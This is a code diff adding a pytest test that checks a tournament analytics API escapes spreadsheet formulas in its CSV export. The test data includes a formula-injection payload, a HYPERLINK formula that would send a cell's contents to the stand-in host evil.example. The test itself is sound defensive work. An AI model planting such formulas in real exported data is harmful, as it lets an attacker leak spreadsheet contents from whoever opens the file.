@@ -238,3 +238,23 @@ def test_the_periodic_tables_answer_alike(client, two_tenants):
     assert revenue["parameters"] == tournaments["parameters"]
     assert (revenue["operationId"], tournaments["operationId"]) == (
         "revenue_series_v1_revenue_get", "tournaments_v1_tournaments_get")
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_tournament_format_cannot_become_a_formula_in_the_csv(client, engine, prefix):
+    """A tenant's user names the format; the organizer opens the CSV in a spreadsheet."""
+    fmt = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with engine.begin() as conn:
+        add_tenant(conn, "acme")
+        conn.execute(sa.text(
+            "INSERT INTO tournament_aggregates (id, tenant_id, period_start, period_end, period_type, "
+            "tournament_count, completed_count, completion_rate, total_players, avg_players, "
+            "avg_duration_minutes, most_popular_format, revenue) "
+            "VALUES ('acme:day:2025-04-01', 'acme', '2025-04-01', '2025-04-01', 'day', 2, 1, 50, 8, 4, 30, :f, -12.50)"
+        ), {"f": fmt})
+    response = client.get("/v1/tournaments?period_type=day&from=2025-04-01&to=2025-04-01&format=csv",
+                          headers=auth("acme"))
+    assert response.status_code == 200
+    [row] = list(csv.DictReader(io.StringIO(response.text, newline="")))
+    assert row["most_popular_format"] == "'" + fmt
+    assert row["revenue"] == "-12.50"  # a negative amount stays a number
